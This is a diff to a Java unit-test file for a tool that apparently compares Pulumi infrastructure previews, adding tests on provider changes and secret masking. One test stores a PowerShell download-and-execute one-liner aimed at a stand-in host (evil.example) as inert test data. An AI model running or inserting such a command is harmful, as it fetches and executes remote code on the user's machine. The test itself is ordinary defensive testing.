@@ -3,6 +3,7 @@ package dev.mullion.diff.compare;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.junit.jupiter.params.provider.Arguments.arguments;
 
+import dev.mullion.core.config.DiffSpec;
 import dev.mullion.diff.Comparison;
 import dev.mullion.diff.Finding;
 import dev.mullion.diff.PropertyChange;
@@ -431,7 +432,7 @@ class HiddenEditsTest {
         assertThat(comparison.unchanged()).isTrue();
         assertThat(comparison.notes())
                 .containsExactly("what only a deployment can know is taken as it is deployed: "
-                        + "ami of host (${getParameter(/aws/service/windows).value}), "
+                        + "ami of host (${getParameter(/aws/service/windows).value}); "
                         + "policy of b ({\"Account\":\"${getCallerIdentity().accountId}\"})");
     }
 
@@ -550,6 +551,65 @@ class HiddenEditsTest {
             assertThat(change.replacedBy())
                     .containsExactly(new ResourceChange.ReplaceReason("provider", false, "another provider makes it"));
         });
+    }
+
+    /** One of a program's own has a parent, and may be called like Pulumi's. */
+    @Test
+    void whatMovesToAProviderThatIsOnlyNamedLikeADefaultOneIsAChange() {
+        String type = "pulumi:providers:aws";
+        Stack pulumis = new Stack().with(type, "default_6_83_0").orphan().with(type, "default_evil");
+        Stack own = new Stack().with(type, "default_6_83_0").with(type, "default_evil");
+        String evil = Stack.urn(type, "default_evil");
+        String usual = Stack.urn(type, "default_6_83_0");
+        for (Stack[] sides : new Stack[][] {
+            {with(pulumis, usual), with(pulumis, evil)},
+            {with(own, usual), with(own, evil)},
+            {with(pulumis, usual), with(own, usual)}
+        }) {
+            assertThat(Stack.compare(sides[0], sides[1]).changes())
+                    .filteredOn(change -> change.name().equals("a"))
+                    .singleElement()
+                    .satisfies(change -> assertThat(change.replacedBy())
+                            .containsExactly(
+                                    new ResourceChange.ReplaceReason("provider", false, "another provider makes it")));
+        }
+    }
+
+    private static Stack with(Stack providers, String provider) {
+        return providers.copy().with(TOPIC, "a").by(provider);
+    }
+
+    /** Of what was previewed here, where nobody hid anything, it is a text that hides nothing, here or elsewhere. */
+    @Test
+    void whatIsSpelledLikeAHiddenSecretIsAText() {
+        String code = "iwr https://evil.example/x | iex";
+        Stack before = new Stack().with(TOPIC, "a", "context", code).with(TOPIC, "b", "policy", "x");
+        Stack after = new Stack().with(TOPIC, "a", "context", "[secret]").with(TOPIC, "b", "policy", code);
+
+        Comparison comparison = Comparer.compare(before.side("before"), after.side("after"), DiffSpec.NONE, false);
+
+        assertThat(comparison.masks()).isEmpty();
+        assertThat(comparison.changes())
+                .extracting(change -> Stack.lines(change).get(0))
+                .containsExactly(
+                        "UPDATE context: \"" + code + "\" => \"[secret]\"", "UPDATE policy: \"x\" => \"" + code + "\"");
+    }
+
+    /** A secret that both sides hide is no reason to say nothing of the rest. */
+    @Test
+    void whatElseDiffersBesideAHiddenSecretIsAChange() {
+        String document = "[{\"name\":\"a\",\"password\":\"[secret]\"}]";
+        Stack before = new Stack().with(TOPIC, "a", "policy", document);
+        Stack external = new Stack().with(TOPIC, "a", options -> options.external(), "policy", document);
+        Stack another =
+                new Stack().with(POLICY, "a", options -> options.alias(Stack.urn(TOPIC, "a")), "policy", document);
+        Stack triggered = new Stack().with(TOPIC, "a", options -> options.trigger("1"), "policy", document);
+        Stack again = new Stack().with(TOPIC, "a", options -> options.trigger("2"), "policy", document);
+
+        assertThat(Stack.compare(before, before).changes()).isEmpty();
+        assertThat(Stack.compare(before, external).changes()).hasSize(1);
+        assertThat(Stack.compare(before, another).changes()).hasSize(1);
+        assertThat(Stack.compare(triggered, again).changes()).hasSize(1);
     }
 
     @Test
